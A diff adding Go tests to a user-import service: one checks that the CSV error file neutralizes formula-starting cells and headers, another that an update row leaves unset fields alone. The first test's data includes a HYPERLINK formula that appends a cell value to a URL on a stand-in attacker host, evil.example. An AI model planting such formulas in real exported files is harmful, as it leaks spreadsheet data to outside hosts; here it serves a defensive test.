@@ -9,6 +9,7 @@ import (
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -194,6 +195,36 @@ func TestImportPlanGolden(t *testing.T) {
 			t.Fatal(err)
 		}
 		checkGolden(t, "import_errors.csv", strings.ReplaceAll(csv.String(), f.owner.Email, "owner@example.com"))
+	})
+}
+
+// TestImportErrorsNeutralized: the error file gives back the file's cells,
+// and its header, neutralized against formulas as the export is (AUD-4):
+// a column named like a formula does not run in the admin's spreadsheet.
+func TestImportErrorsNeutralized(t *testing.T) {
+	t.Parallel()
+	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
+		f := setupImport(t, db, 20)
+		p := f.plan(t, f.as(f.admin), "Email,First Name,Last Name,\"=HYPERLINK(\"\"https://evil.example/\"\"&A2,\"\"x\"\")\"\n"+
+			"not-an-email,@Ada,=1+1,+x\n", false)
+		var out bytes.Buffer
+		if err := service.WriteImportErrors(&out, p); err != nil {
+			t.Fatal(err)
+		}
+		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\uFEFF"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(records) != 2 || records[0][3] != `'=HYPERLINK("https://evil.example/"&A2,"x")` || records[1][1] != "'@Ada" {
+			t.Fatalf("error file %q; want the formula header and cells neutralized", records)
+		}
+		for _, rec := range records {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("a cell of the error file starts a formula: %q", cell)
+				}
+			}
+		}
 	})
 }
 
@@ -456,6 +487,43 @@ func TestImportCommitsAtOnce(t *testing.T) {
 			if _, err := f.svc.FindUserByEmail(owner, fmt.Sprintf("crowd%d@example.com", i)); err != nil {
 				t.Fatalf("crowd%d after the imports: %v", i, err)
 			}
+		}
+	})
+}
+
+// TestImportLeavesWhatItsCellsDoNotSet: an update row changes what its
+// cells set; an empty Role cell, or no Secondary Teams column, leaves what
+// the user has when the row is applied, so that a change made between the
+// dry run and the job stays.
+func TestImportLeavesWhatItsCellsDoNotSet(t *testing.T) {
+	t.Parallel()
+	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
+		f := setupImport(t, db, 20)
+		owner := f.as(f.owner)
+		p := f.plan(t, owner, "Email,First Name,Last Name,Role,Primary Team\nann@example.com,Ann,Tester,,Default Team\n", false)
+		if p.Summary.Counts.Update != 1 {
+			t.Fatalf("plan: %s", renderPlan(p, f.owner.Email))
+		}
+		ann, err := f.svc.FindUserByEmail(owner, "ann@example.com")
+		if err != nil {
+			t.Fatal(err)
+		}
+		support, err := f.svc.CreateTeam(owner, "Support")
+		if err != nil {
+			t.Fatal(err)
+		}
+		admin, secondaries := muster.RoleAdmin, []int64{support.ID}
+		if _, err := f.svc.UpdateUser(owner, ann.ID, service.UserUpdate{Role: &admin, SecondaryTeamIDs: &secondaries}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := f.svc.CommitImport(owner, p.ID); err != nil {
+			t.Fatal(err)
+		}
+		runImports(t, f.svc)
+		got := f.user(t, ann.ID)
+		if got.PrimaryTeamID != f.defaultTeam().ID || got.Role != muster.RoleAdmin || !slices.Equal(got.SecondaryTeamIDs, secondaries) {
+			t.Fatalf("Ann after the import: primary team %d, %s, secondary teams %v; want the Default Team, still an Admin, still %v",
+				got.PrimaryTeamID, got.Role, got.SecondaryTeamIDs, secondaries)
 		}
 	})
 }
